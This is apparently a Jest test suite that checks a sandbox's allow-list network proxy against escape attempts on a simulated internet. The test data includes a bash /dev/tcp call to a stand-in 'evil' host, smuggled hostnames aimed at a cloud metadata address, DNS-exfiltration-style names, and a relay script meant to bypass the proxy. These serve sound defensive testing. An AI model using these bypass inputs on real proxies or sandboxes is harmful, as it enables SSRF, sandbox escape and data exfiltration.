// The way out by a list: on a machine whose network is a fake internet that hears every frame.
import { once } from 'node:events';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect as connectTls } from 'node:tls';
import { describe, expect } from '@jest/globals';
import { type AttackGround, fakeInternet, onTheHost, positiveControl } from '../../src/index.ts';
import { attack } from './attack.ts';
import { commandLine } from './command-line.ts';

/**
 * `perl say.pl ADDRESS HEX [HEX]`: says the first to what listens at ADDRESS, and where the answer is 200 the second. Prints the
 * first line of the answer, and what comes after its head within two seconds.
 */
const SAY = `use IO::Socket::IP; use IO::Select; my ($at, $first, $then) = @ARGV; $| = 1;
my ($host, $port) = $at =~ /^(.*):(\\d+)$/;
my $s = IO::Socket::IP->new(PeerHost => $host, PeerPort => $port, Timeout => 2) or print("nothing listens\\n"), exit;
local $SIG{PIPE} = 'IGNORE'; my $select = IO::Select->new($s); my ($text, $more) = ('', '');
my $read = sub { $select->can_read(2) && sysread($s, $_[0], 65536, length $_[0]) };
syswrite $s, pack('H*', $first);
while ($text !~ /\\r\\n\\r\\n/s and $read->($text)) {}
my ($line) = $text =~ /^([^\\r\\n]*)/; print "$line\\n";
exit unless defined $then and $line =~ / 200 /;
for my $piece (split /,/, $then) { syswrite $s, pack('H*', $piece); select undef, undef, undef, 0.02 }
1 while $read->($more); print "after: $more\\n";
`;

/** What programs of a machine with this page of names find: one server of the Internet, and what only pretends to be one. */
const HOSTS = `127.0.0.1 localhost
1.1.1.1 allowed.test other.test
8.8.8.8 evil.test allowed.test.evil.test evil-allowed.test
169.254.169.254 metadata.test
10.99.0.1 neighbour.test
10.99.0.2 myself.test
127.0.0.1 home.test
100.64.0.1 carrier.test
fd99::1 local6.test
fe80::1 link6.test
::1 home6.test
0.0.0.0 zero.test
64:ff9b::a9fe:a9fe nat64.test
2002:a9fe:a9fe::1 tunnel.test
1.1.1.1 mixed.test
169.254.169.254 mixed.test
${Array.from({ length: 80 }, (_, index) => `1.1.1.1 n${index}.wild.test`).join('\n')}
`;

const PRIVATE = 'metadata neighbour myself home carrier local6 link6 home6 zero nat64 tunnel mixed'.split(' ');

const CONFIG = `[network]
run = "allow-list"
allow = ["allowed.test", "*.wild.test", ${PRIVATE.map((name) => `"${name}.test"`).join(', ')}]
`;

/** A request, and what follows when the way is open, in pieces. */
type Saying = readonly [first: string | Buffer, then?: readonly Buffer[] | undefined];

interface Machine extends AsyncDisposable {
  litterbox(...args: readonly string[]): { readonly code: number; readonly stdout: string; readonly stderr: string };
  /** What `say.pl` prints inside `a`. */
  say(first: Saying[0], then?: Saying[1], sandbox?: string): string;
  /** One after the other. */
  sayAll(sayings: readonly Saying[], sandbox?: string): readonly string[];
  /** Frames since the last look that are not for the server that is allowed. */
  strays(): Promise<readonly string[]>;
  frames(): Promise<readonly string[]>;
}

const hex = (bytes: string | Buffer) => Buffer.from(bytes as string, 'latin1').toString('hex');
const connect = (host: string) => `CONNECT ${host} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;

async function machine(ground: AttackGround): Promise<Machine> {
  const internet = await fakeInternet();
  const pages = mkdtempSync(join(tmpdir(), 'litterbox-pages-'));
  const page = (name: string, text: string) => {
    const path = join(pages, name);
    writeFileSync(path, text);
    chmodSync(path, 0o644);
    return path;
  };
  const [hosts, resolver] = [
    page('hosts', HOSTS),
    page('resolv.conf', 'nameserver 8.8.8.8\noptions timeout:1 attempts:1\n'),
  ];
  const mounted = 'mount --bind "$0" /etc/hosts && mount --bind "$1" /etc/resolv.conf && shift && exec "$@"';
  const enter = (argv: readonly string[]) =>
    internet.enter(['unshare', '--mount', 'sh', '-c', mounted, hosts, resolver, ...argv]);
  const litterbox = (...args: readonly string[]) => commandLine(ground, args, { prefix: enter(['env']) });
  const control = onTheHost(
    enter(['sh', '-c', 'getent ahostsv4 allowed.test; bash -c "exec 3<>/dev/tcp/evil.test/443; head -c 15 <&3"']),
  );
  positiveControl(
    'the fake internet',
    control.stdout,
    (text) => text.includes('1.1.1.1') && text.includes('HTTP/1.0 200 OK'),
  );
  expect(litterbox('trust', '--yes').code).toBe(0);
  const made = litterbox('create', 'a');
  expect([made.code, made.stderr.includes('network is not open')]).toEqual([0, false]);
  let seen = (await internet.heard()).length;
  const frames = async () => {
    const all = await internet.heard();
    const fresh = all.slice(seen);
    seen = all.length;
    return fresh;
  };
  const sayAll = (sayings: readonly Saying[], sandbox = 'a') => {
    const script = sayings.map(([first, then]) => {
      const words = [hex(first), ...(then ? [then.map(hex).join(',')] : [])];
      return `perl say.pl 127.0.0.1:3128 ${words.join(' ')}; echo ==`;
    });
    const { code, stdout } = litterbox('run', sandbox, '--', 'sh', '-c', script.join('\n'));
    expect(code).toBe(0);
    return stdout.split('==\n').slice(0, -1);
  };
  return {
    litterbox,
    say: (first, then, sandbox = 'a') => sayAll([[first, then]], sandbox)[0] ?? '',
    sayAll,
    frames,
    async strays() {
      return (await frames()).filter((frame) => !/^ip6 10\.99\.0\.2:\d+ > 1\.1\.1\.1:443$/.test(frame));
    },
    async [Symbol.asyncDispose]() {
      litterbox('delete', 'a', '--force');
      await internet[Symbol.asyncDispose]();
      rmSync(pages, { recursive: true });
    },
  };
}

/** The first bytes of Node's own TLS. */
async function hello(servername?: string): Promise<Buffer> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const client = connectTls({ port, host: '127.0.0.1', ...(servername !== undefined && { servername }) });
  client.on('error', () => {});
  const [socket] = (await once(server, 'connection')) as [Socket];
  const [bytes] = (await once(socket, 'data')) as [Buffer];
  client.destroy();
  socket.destroy();
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return bytes;
}

const FILES = { 'say.pl': SAY, '.litterbox.toml': CONFIG };
const ESTABLISHED = 'HTTP/1.1 200 Connection established';

if (process.getuid?.() === 0) {
  describe('the way out by a list', () => {
    attack(
      'A81: no reading of a request reaches what no rule allows, and nothing is asked for a name',
      async (ground) => {
        await using place = await machine(ground);
        const control = place.say(connect('allowed.test:443'), [await hello('allowed.test')]);
        positiveControl('what is allowed', control, (text) => text.includes(ESTABLISHED) && text.includes('fake'));
        positiveControl('what is heard', (await place.frames()).join('\n'), (text) => text.includes('> 1.1.1.1:443'));
        const requests: readonly string[] = [
          ...[
            'evil.test:443',
            'evil.test\0.allowed.test:443',
            'allowed.test\0.evil.test:443',
            'allowed.test.evil.test:443',
            'evil-allowed.test:443',
            'allowed.test:443@evil.test',
            'allowed.test:443@evil.test:443',
            'evil.test#allowed.test:443',
            'evil.test%2eallowed.test:443',
            'evil.test/allowed.test:443',
            '[::ffff:a9fe:a9fe]:443',
            '[fd99::1]:443',
            '169.254.169.254:443',
            '0x7f.1:443',
            '2130706433:443',
            '0177.0.0.1:443',
            '127\xe3\x80\x820\xe3\x80\x820\xe3\x80\x821:443',
            'xn--alowed-ova.test:443',
            'allowed.test',
            'allowed.test:80',
            'allowed.test:0443',
            'allowed.test:443:443',
            'allowed.test:70000',
            'allowed.test ',
            'wild.test:443',
            'localhost:443',
            'secret.of.the.person.evil.test:443',
          ].map(connect),
          'GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n',
          'GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n',
          'GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n',
          'CONNECT evil.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n',
          'CONNECT allowed.test:443 HTTP/1.1\r\nHost: evil.test:443\r\nHost: allowed.test:443\r\n\r\n',
          'CONNECT evil.test:443\nHost: allowed.test:443\n\n',
          'CONNECT allowed.test:443 HTTP/1.1\r\n evil.test:443\r\n\r\n',
          '\x05\x01\x00',
          '\x04\x01\x01\xbb\x00\x00\x00\x01\x00allowed.test\x00',
          '\x16\x03\x01\x00\x05hello',
        ];
        const answers = place.sayAll(requests.map((request) => [request, [Buffer.from('x')]]));
        expect(answers).toHaveLength(requests.length);
        expect(answers.filter((answer) => answer.includes(' 200 '))).toEqual([]);
        expect(await place.frames()).toEqual([]);
      },
      FILES,
    );

    attack(
      'A82: a name that leads into this machine or its network is not dialled, nor is any other address of it',
      async (ground) => {
        await using place = await machine(ground);
        const sayings = await Promise.all(
          PRIVATE.map(async (name) => [connect(`${name}.test:443`), [await hello(`${name}.test`)]] as const),
        );
        const refused = place.sayAll(sayings).map((answer) => /^HTTP\/1\.1 (403|502) /.test(answer));
        expect(refused).toEqual(PRIVATE.map(() => true));
        expect(await place.frames()).toEqual([]);
      },
      FILES,
    );

    attack(
      'A83: the TLS inside is for the name that was asked for, or nothing of it gets out',
      async (ground) => {
        await using place = await machine(ground);
        const own = await hello('allowed.test');
        const whole = place.say(connect('allowed.test:443'), [
          own.subarray(0, 1),
          own.subarray(1, 40),
          own.subarray(40),
        ]);
        positiveControl('in three pieces', whole, (text) => text.includes('fake'));
        const other = await hello('evil.test');
        const fronts: readonly (readonly Buffer[])[] = [
          [other],
          [await hello()],
          [Buffer.from('SSH-2.0-x\r\n')],
          [Buffer.from('GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n')],
          [other.subarray(0, 5), other.subarray(5)],
          [Buffer.concat([other, own])],
        ];
        // What the server says when a connection is opened comes only after the hello was read.
        for (const front of fronts)
          expect(place.say(connect('allowed.test:443'), front)).toBe(`${ESTABLISHED}\nafter: \n`);
        const { stdout } = place.litterbox('audit', '--json');
        expect(stdout).toContain('its TLS hello names another server than it asked for');
      },
      FILES,
    );

    attack(
      'A85: a relay inside, another sandbox and programs without the variables get no further',
      async (ground) => {
        await using place = await machine(ground);
        const relay = `perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(LocalAddr => "127.0.0.1:9999", Listen => 5, ReuseAddr => 1) or die; print "up\\n"; $c = $l->accept; $p = IO::Socket::INET->new("127.0.0.1:3128") or die; if (fork) { while (sysread $c, $b, 65536) { syswrite $p, $b } shutdown $p, 1; wait } else { while (sysread $p, $b, 65536) { syswrite $c, $b } shutdown $c, 1 }' & sleep 0.5; perl say.pl 127.0.0.1:9999`;
        const through = (host: string) =>
          place.litterbox('run', 'a', '--', 'sh', '-c', `${relay} ${hex(connect(host))}; wait`);
        expect(through('evil.test:443').stdout).toContain('403 Forbidden');
        expect(await place.frames()).toEqual([]);
        positiveControl('the relay', through('allowed.test:443').stdout, (text) => text.includes(ESTABLISHED));
        await place.frames();
        const around = `unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy; NO_PROXY='*'; export NO_PROXY
for a in 1.1.1.1 8.8.8.8 10.99.0.1 10.99.0.2; do for p in 443 3128; do perl say.pl $a:$p 00; done; done; getent hosts allowed.test evil.test; true`;
        expect(place.litterbox('run', 'a', '--', 'sh', '-c', around).stdout).toBe('nothing listens\n'.repeat(8));
        // Another sandbox of the same repository that has no way out does not find this one's.
        ground.scratch.file('.litterbox.toml', '');
        expect(place.litterbox('create', 'b').code).toBe(0);
        expect(place.say(connect('allowed.test:443'), undefined, 'b')).toBe('nothing listens\n');
        expect(await place.frames()).toEqual([]);
        place.litterbox('delete', 'b', '--force');
        ground.acceptRepository();
      },
      FILES,
    );

    attack(
      'A86, A87: every connection is written down, names below a wildcard are counted, and no other name is asked for',
      async (ground) => {
        await using place = await machine(ground);
        const first = await hello('n0.wild.test');
        expect(place.say(connect('n0.wild.test:443'), [first])).toContain('fake');
        const asking = (words: string) =>
          `for i in ${words}; do perl say.pl 127.0.0.1:3128 $(printf 'CONNECT %s.test:443 HTTP/1.1\\r\\n\\r\\n' $i | od -An -tx1 | tr -d ' \\n') 00; done`;
        const statuses: string[] = [];
        const strays: string[] = [];
        for (let batch = 0; batch < 80; batch += 20) {
          const names = Array.from({ length: 20 }, (_, index) => `n${batch + index}.wild`);
          const { stdout } = place.litterbox('run', 'a', '--', 'sh', '-c', asking(names.join(' ')));
          statuses.push(...[...stdout.matchAll(/^HTTP\/1\.1 (\d+)/gm)].map(([, status = '']) => status));
          strays.push(...(await place.strays())); // and the pipe of the sink is empty again
        }
        expect(statuses).toEqual([...Array(64).fill('200'), ...Array(16).fill('429')]);
        place.litterbox('run', 'a', '--', 'sh', '-c', asking('secret1.evil secret2.evil'));
        expect([...strays, ...(await place.frames())]).toEqual([]); // no question about a name among them
        const entries = JSON.parse(place.litterbox('audit', '--json').stdout) as readonly {
          readonly operation: string;
          readonly input: { readonly host?: string; readonly rule?: string; readonly address?: string };
        }[];
        expect(entries.filter(({ operation }) => operation === 'network-opened').map(({ input }) => input)).toEqual([
          { host: 'n0.wild.test', port: 443, rule: '*.wild.test', address: '1.1.1.1' },
        ]);
        expect(
          entries.some(({ operation, input }) => operation === 'network-refused' && input.host === 'secret1.evil.test'),
        ).toBe(true);
      },
      FILES,
    );
  });
}
